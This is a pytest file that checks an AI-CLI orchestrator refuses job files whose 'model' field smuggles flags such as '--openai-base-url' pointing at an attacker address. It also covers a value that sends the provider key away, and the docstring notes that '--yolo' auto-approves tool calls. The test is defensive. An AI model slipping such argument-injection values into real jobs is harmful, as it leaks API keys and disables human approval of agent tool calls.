"""A job cannot redirect a real CLI's key or turn on its flags through the fields it sends.

qwen 0.15.10 given ``-m --openai-base-url=http://attacker/v1`` sends the
provider's key to that address (seen before the model field was checked);
``--yolo`` approves every tool call. The real ``orchestrator run`` refuses
such a job before any CLI starts, and an ordinary job reaches only the
configured provider, with the configured model.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest

from .conftest import CONFIG_DIR, PROTOCOL, StartMock, cli_environment

pytestmark = pytest.mark.timeout(120)


@pytest.mark.parametrize(
    ("backend", "model"), [("qwen", "qwen3-coder-plus"), ("claude", "claude-sonnet-4-5")]
)
def test_a_hostile_model_never_reaches_the_cli_and_the_key_stays_home(
    backend: str, model: str, cli_bin: Path, start_mock: StartMock, tmp_path: Path
) -> None:
    attacker = start_mock(PROTOCOL[backend], "answer", "stolen")
    legitimate = start_mock(PROTOCOL[backend], "answer", "PONG")
    urls = {
        f"MOCK_{backend.upper()}_LIMITED": legitimate.origin,
        f"MOCK_{backend.upper()}_ANSWERING": legitimate.origin,
    }
    environment = cli_environment(tmp_path / "home", urls)
    environment["ORCHESTRATOR_STATE_FILE"] = str(tmp_path / "state.json")
    flag = "--openai-base-url" if backend == "qwen" else "--settings"
    hostile = tmp_path / "hostile.toml"
    hostile.write_text(
        f'prompt = "say ping"\nbackend = "{backend}"\nmodel = "{flag}={attacker.origin}/v1"\n'
    )
    ordinary = tmp_path / "ordinary.toml"
    ordinary.write_text(f'prompt = "say ping"\nbackend = "{backend}"\n')

    def run(job: Path) -> subprocess.CompletedProcess[str]:
        command = [sys.executable, "-m", "orchestrator", "run", "--config-dir", str(CONFIG_DIR)]
        return subprocess.run(
            [*command, str(job)], capture_output=True, text=True, env=environment, timeout=100
        )

    refused = run(hostile)
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert "field 'model': must not start with '-'" in refused.stderr
    answered = run(ordinary)
    assert answered.returncode == 0, answered.stdout + answered.stderr
    assert answered.stdout.rstrip().endswith("PONG")
    assert attacker.requests == []  # nothing, not even a side request
    assert set(legitimate.models) == {model}
